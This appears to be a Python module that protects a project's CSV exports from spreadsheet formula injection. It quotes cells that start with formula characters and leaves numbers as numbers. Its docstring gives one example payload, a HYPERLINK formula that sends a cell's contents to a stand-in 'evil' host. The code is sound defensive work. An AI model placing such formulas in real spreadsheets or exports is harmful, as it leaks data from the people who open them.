"""CSV files that are safe to open in a spreadsheet: every CSV the project writes goes through here.

A cell that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice
and Google Sheets, and a tab or carriage return in front of one hides it from
a reader's eye. Much of what the CSVs hold came from somewhere else (a person's
name typed into `facerec album name`, a file name, a decoder's error text), so
`=HYPERLINK("http://evil/?"&A1, "click")` in a name would run as a formula on
whoever opens the export. OWASP's "CSV Injection" guidance is followed: such a
cell gets a leading single quote, which spreadsheets show as text and do not
evaluate. Numbers stay numbers: an int or float is written as is, and so is a
string that is exactly a decimal number (a similarity of "-0.1234" must sort
as a number, and cannot be a formula).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO

#: First characters that make a spreadsheet read a cell as a formula (or hide one).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

Cell = str | int | float | None


def safe_cell(value: Cell) -> str | int | float:
    """`value` as a CSV cell no spreadsheet evaluates: formula-like text gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` whose every cell passes through `safe_cell`."""

    def __init__(self, f: IO[str]) -> None:
        self._writer = csv.writer(f)

    def writerow(self, row: Iterable[Cell]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])
